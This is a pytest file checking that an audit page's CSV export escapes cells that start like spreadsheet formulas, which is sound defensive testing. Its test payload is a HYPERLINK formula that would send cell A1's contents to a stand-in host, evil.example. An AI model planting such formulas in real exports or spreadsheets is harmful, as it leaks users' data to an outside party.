"""The audit page's CSV export opens in a spreadsheet: a cell that would run there as a formula
(`=`, `+`, `-`, `@`, tab, carriage return first) is exported as text, with a leading `'`."""

import csv
import io

import pytest

from imaging.models import EventKind, JobEvent
from tests.support.cast import make_user

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
NAMES = ["equals", "plus", "minus", "at", "tab", "carriage-return"]


def exported_rows(client) -> list[dict]:
    response = client.get("/audit/", {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.DictReader(io.StringIO(response.getvalue().decode("utf-8").lstrip("\ufeff"))))


@pytest.mark.parametrize("first", FORMULA_STARTS, ids=NAMES)
def test_a_message_that_starts_like_a_formula_is_exported_as_text(signed_in, project, bob, first):
    formula = f'{first}HYPERLINK("https://evil.example/?leak="&A1,"Open")'
    JobEvent.record(project_id=project.pk, job_id=None, kind=EventKind.NOTE, message=formula)

    [row] = exported_rows(signed_in(bob))

    assert row["message"] == "'" + formula


@pytest.mark.parametrize("name", ["@evil", "-2+3", "+cmd"])
def test_a_user_name_that_starts_like_a_formula_is_exported_as_text(signed_in, project, bob, name):
    actor = make_user(name)
    JobEvent.record(
        project_id=project.pk, job_id=None, kind=EventKind.NOTE, message="Note.", actor=actor
    )

    [row] = exported_rows(signed_in(bob))

    assert row["actor"] == "'" + name


def test_other_cells_are_exported_unchanged(signed_in, project, bob):
    event = JobEvent.record(
        project_id=project.pk,
        job_id=None,
        kind=EventKind.NOTE,
        message="K5 said: a = b - c",
        detail={"reason": "=not a formula inside JSON"},
    )

    [row] = exported_rows(signed_in(bob))

    assert row["id"] == str(event.pk)
    assert row["project"] == "demo-project-1"
    assert row["message"] == "K5 said: a = b - c"
    assert row["detail"] == '{"reason": "=not a formula inside JSON"}'
